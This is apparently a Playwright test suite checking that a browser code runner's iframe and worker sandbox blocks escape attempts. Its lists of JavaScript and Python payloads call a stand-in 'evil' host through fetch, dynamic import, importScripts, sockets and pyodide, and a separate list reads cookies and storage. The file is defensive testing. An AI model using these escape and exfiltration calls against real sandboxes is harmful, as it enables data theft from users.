import type { Page } from '@playwright/test'
import { expect, type Server, test } from './fixture'
import { type Attack, attacks } from './sandbox-attacks.mjs'

/** What a program may also try that knows it runs in this worker, and in what words it fails; in none where it only asks for nothing. */
const ofWorkers = (evil: string): [name: string, code: string, refusal: RegExp][] => [
  ['fetch by another name', `await Function('return this')().fetch('http://${evil}/x')`, /fetch is not a function/],
  ['fetch of a prototype', `for (let o = globalThis; o; o = Object.getPrototypeOf(o)) if (Object.hasOwn(o, 'fetch')) await o.fetch('http://${evil}/x')`, /^$/],
  ['a module of a blob', `await import(URL.createObjectURL(new Blob(["await fetch('http://${evil}/x')"], { type: 'text/javascript' })))`, /fetch is not defined/],
  ['a module of a URL', `await import('http://${evil}/x.js')`, /Failed to fetch dynamically imported module/],
  ['a static import', `import x from 'http://${evil}/x.js'`, /There is nothing to import/],
  ['importScripts', `importScripts('http://${evil}/x.js')`, /importScripts is not defined/],
  ['an unblocked constructor', `const { Worker } = self.constructor.prototype; new Worker(URL.createObjectURL(new Blob(["fetch('http://${evil}/x')"])))`, /Worker is not a constructor/],
  ['a forged end', `postMessage({ type: 'exit', code: 0 })`, /postMessage is not defined/],
  ['a forged end by event', `dispatchEvent(new MessageEvent('message', { data: { type: 'run' } }))`, /^$/],
  ['a broken platform', `Array.prototype.push = Map.prototype.get = () => { throw 1 }; Object.prototype.type = 'exit'; console.log('still here')`, /still here|Uncaught 1/],
  ['a request with credentials', `new Request('http://${evil}/x', { keepalive: true }).json()`, /^$/],
  ['a font', `await new FontFace('x', 'url(http://${evil}/x)').load()`, /FontFace is not defined/],
]

const ofPython = (evil: string): [name: string, code: string, refusal: RegExp][] => [
  ['urllib', `import urllib.request\nurllib.request.urlopen('http://${evil}/x')`, /Host is unreachable/],
  ['a socket', `import socket\nsocket.create_connection(('${evil.split(':')[0]}', ${evil.split(':')[1]}))`, /Host is unreachable/],
  ['pyodide.http', `import pyodide.http\npyodide.http.open_url('http://${evil}/x')`, /'XMLHttpRequest' is not defined/],
  ['pyfetch', `import asyncio, pyodide.http\nasyncio.run(pyodide.http.pyfetch('http://${evil}/x'))`, /'_jsfetch' is not defined/],
  ['js.fetch', `import js\njs.fetch('http://${evil}/x')`, /AttributeError: fetch/],
  ['js.eval', `import js\njs.eval("import('http://${evil}/x')")`, /no current event loop/],
  ['a package', `import micropip`, /No module named 'micropip'/],
  ['the module behind pyodide', `import pyodide_js\npyodide_js.loadPackage('http://${evil}/x.whl')`, /no current event loop/],
]

test.describe.configure({ timeout: 300_000 })

/** What an attack says that got what it wanted. Every other answer, or an error, is a refusal. */
const WON = /SENT|READ|OPENED|REGISTERED|WROTE|FULL|\bSET\b|granted|active:true|sdp:[1-9]|heard|ms:[1-9]\d{2,}/
/** Attacks that answer nothing of their own; that they ran is all they can say. */
const RAN = /^(done|true|called|null|err|t|false|werr|nerr|blocked|v:.*|ms:\d{1,2}|sdp:0|denied.*|default|hasFocus:.*|\w*Error)$/

/** Dialogs, windows and downloads that come up while somebody listens. */
function listen(page: Page): string[] {
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.type()}`)
    void dialog.dismiss()
  })
  page.on('popup', () => seen.push('popup'))
  page.on('download', () => seen.push('download'))
  return seen
}

test('no attack of the corpus leaves the worker', async ({ lab }) => {
  const seen = listen(lab.page)
  const { evil, app, stun } = lab.server
  for (const [name, code] of attacks({ evil, app, stun })) {
    const { out, exit } = await lab.run('javascript', `const attack = async () => { ${code} }\nconsole.log('answer', await attack())`)
    const { code: status, error } = exit as { code: number; error?: { message: string } }
    // It ran to an answer or was refused, in words of the engine; a runner that broke is neither.
    expect(exit, name).toMatchObject({ reason: 'exit' })
    if (status === 0) expect(out.at(-1), name).toMatch(/^answer /)
    else expect(error?.message, name).toMatch(/Error|Uncaught|awaits/)
    expect(out.join().replace('answer ', ''), name).not.toMatch(WON)
  }
  await nothingIsHeard(lab.page, lab.server)
  expect(seen).toEqual([])
})

test('no attack on this worker leaves it', async ({ lab }) => {
  for (const [language, list] of [
    ['javascript', ofWorkers(lab.server.evil)],
    ['python', ofPython(lab.server.evil)],
  ] as const) {
    for (const [name, code, refusal] of list) {
      const { out, exit } = await lab.run(language, code)
      const { error } = exit as { error?: { message: string } }
      expect(out.join(), name).not.toMatch(WON)
      // An attack that stops for another reason than the wall proves nothing.
      expect([...out, error?.message ?? ''].join(''), name).toMatch(refusal)
    }
  }
  expect((await lab.run('javascript', 'console.log("fine")')).out).toEqual(['fine'])
  await nothingIsHeard(lab.page, lab.server)
})

/** The wall behind the worker: what if a program reached the frame, or a worker that nothing was deleted in? */
test('no attack leaves the frame either', async ({ lab }) => {
  const seen = listen(lab.page)
  const { evil, app, stun } = lab.server
  const all = attacks({ evil, app, stun })
  await lab.prepare('javascript')
  const answers = await inFrame(lab.page, all.filter(([, , navigates]) => !navigates))
  expect(answers).toHaveLength(2 * all.filter(([, , navigates]) => !navigates).length)
  expect(answers.filter(({ answer }) => WON.test(answer) || !RAN.test(answer))).toEqual([])
  for (const attack of all.filter(([, , navigates]) => navigates)) {
    await lab.page.goto(lab.server.origin)
    await lab.prepare('javascript')
    // A frame that navigates takes its answers with it; where it wanted to go, it must not have come.
    const [answer] = await inFrame(lab.page, [attack])
    expect(answer?.answer, attack[0]).toMatch(RAN)
    expect(lab.page.url()).toBe(`${lab.server.origin}/`)
  }
  await nothingIsHeard(lab.page, lab.server)
  expect(seen).toEqual([])
})

/** Of each kind of attack, some that are noticed where there is no wall: else the tests above could not fail. */
const NOTICED: Record<string, readonly [name: string, how: RegExp][]> = {
  requests: [
    ['fetch evil', /SENT.*x-fetch/],
    ['XHR', /SENT.*x-xhr/],
    ['WebSocket evil', /x-ws/],
    ['EventSource', /x-es/],
    ['sendBeacon', /x-beacon/],
    ['img', /x-img/],
    ['css url()', /x-css/],
    ['link stylesheet', /x-link/],
    ['link prefetch', /x-prefetch/],
    ['script src', /x-script/],
    ['dynamic import', /x-import/],
    ['importScripts in blob worker', /x-impscr/],
    ['fetch in blob worker', /x-wfetch/],
    ['ws in nested worker', /x-nw/],
    ['nested iframe evil', /x-frame/],
    ['object/embed', /x-embed/],
    ['svg use/image', /x-svg/],
    ['a ping', /x-ping/],
  ],
  'this server': [['WebSocket app', /x-wsapp/]],
  peers: [['WebRTC STUN', /stun/]],
  storage: [
    ['localStorage', /READ/],
    ['cookie', /READ/],
    ['indexedDB', /READ/],
    ['caches', /READ/],
    ['OPFS', /READ/],
  ],
  'the page around it': [
    ['parent DOM', /READ/],
    ['parent location read', /READ/],
  ],
  dialogs: [['alert', /dialog alert/]],
  windows: [['window.open', /OPENED.*popup/]],
  downloads: [['a download click', /download/]],
  clipboard: [['clipboard write', /WROTE/]],
  navigation: [
    ['location self nav', /x-loc/],
    ['meta refresh self', /x-meta/],
    ['a click self nav', /x-aself/],
    ['self nav to app api', /x-locapp/],
    ['self nav javascript:', /x-jsnav/],
  ],
}

test('without a wall every kind of attack is noticed', async ({ lab }) => {
  const { evil, app, stun, heard, origin } = lab.server
  const all = attacks({ evil, app, stun })
  await lab.page.context().grantPermissions(['clipboard-write'])
  for (const [name, how] of Object.values(NOTICED).flat()) {
    const attack = all.find((each) => each[0] === name)
    if (attack === undefined) throw new Error(`no attack '${name}'`)
    const page = await lab.page.context().newPage()
    const seen = listen(page)
    await page.goto(`${origin}/bare`)
    await page.bringToFront()
    const answer = await page.evaluate(`(async () => { ${attack[1]} })()`).catch((failure: Error) => failure.message)
    await expect.poll(() => `${answer} ${[...heard, ...seen].join()}`, name).toMatch(how)
    heard.length = 0
    await page.close()
  }
})

test('the frame is out of reach of the keyboard and of the eye', async ({ lab }) => {
  await lab.prepare('javascript')
  const frame = lab.page.locator('iframe')
  await expect(frame).toBeHidden()
  expect(await frame.evaluate((element: HTMLIFrameElement) => [element.sandbox.value, element.allow, element.referrerPolicy])).toEqual([
    'allow-scripts',
    'cross-origin-isolated',
    'no-referrer',
  ])
  await lab.page.locator('#typing').focus()
  await steal(lab.page, (thief) => thief.focus())
  await lab.page.keyboard.type('x'.repeat(100))
  await expect(lab.page.locator('#typing')).toHaveValue('x'.repeat(100))
})

test('a frame that takes the focus is removed, and running goes on', async ({ lab }) => {
  await lab.prepare('javascript')
  await lab.page.locator('#typing').focus()
  await steal(lab.page, () => window.focus())
  await expect(lab.page.locator('iframe')).toHaveCount(0)
  expect((await lab.run('javascript', 'console.log("again")')).out).toEqual(['again'])
})

test('the frame listens to its parent once, and to nobody else', async ({ lab }) => {
  await lab.prepare('javascript')
  const answered = await lab.page.evaluate(async () => {
    const { port1, port2 } = new MessageChannel()
    const heard = new Promise((answer) => {
      port1.onmessage = () => answer(true)
    })
    document.querySelector('iframe')?.contentWindow?.postMessage('hotseat-runner-port', '*', [port2])
    await lab.run('javascript', 'await new Promise((done) => setTimeout(done, 200))')
    return Promise.race([heard, Promise.resolve(false)])
  })
  expect(answered).toBe(false)
})

async function steal(page: Page, how: (thief: HTMLElement) => void): Promise<void> {
  const frame = page.frames().find((candidate) => candidate.url().endsWith('/runner/'))
  // A frame that is removed for it takes the answer with it.
  await frame
    ?.evaluate(`(${how})(document.body.appendChild(document.createElement('input')))`)
    .catch((failure: Error) => expect(failure.message).toContain('detached'))
}

/** Every attack at once, in the frame's window and in a bare worker of it, each with what it answered. */
async function inFrame(page: Page, list: Attack[]): Promise<{ name: string; answer: string }[]> {
  const frame = page.frames().find((candidate) => candidate.url().endsWith('/runner/'))
  if (frame === undefined) throw new Error('no runner')
  const attack = (all: Attack[]) => {
    const said = (failure: unknown) => (failure instanceof Error ? failure.name : 'Error')
    const body = (code: string) => `(async () => { ${code} })()`
    const inWindow = (code: string) => globalThis.eval(body(code)) as Promise<unknown>
    const inWorker = (code: string) =>
      new Promise((answer, refused) => {
        const report = `${body(code)}.then((x) => postMessage('answer ' + x), (x) => postMessage('answer ' + (x && x.name || 'Error')))`
        const worker = new Worker(URL.createObjectURL(new Blob([report])))
        // Attacks talk to workers of their own; only what is marked is the answer.
        worker.onmessage = ({ data }) => String(data).startsWith('answer ') && answer(String(data).slice(7))
        worker.onerror = () => refused(new Error('blocked'))
      })
    const tries = all.flatMap(([name, code]) => [
      { name: `${name}, in the window`, act: () => inWindow(code) },
      { name: `${name}, in a worker`, act: () => inWorker(code) },
    ])
    return Promise.all(
      tries.map(async ({ name, act }) => {
        try {
          return { name, answer: String(await act()) }
        } catch (failure) {
          return { name, answer: said(failure) }
        }
      }),
    )
  }
  const gone = list.map(([name]) => ({ name, answer: 'null' }))
  // Only what navigates may take its answer with it.
  return frame.evaluate(attack, list).catch((failure: Error) => {
    if (list.every(([, , navigates]) => navigates) && /navigat|detached|destroyed/.test(failure.message)) return gone
    throw failure
  })
}

async function nothingIsHeard(page: Page, server: Server): Promise<void> {
  // A request that was sent arrives before this one is answered: same machine, and later.
  await page.evaluate(() => fetch('/runtimes/runtimes.json', { cache: 'no-store' }).then((response) => response.text()))
  expect(server.heard).toEqual([])
}
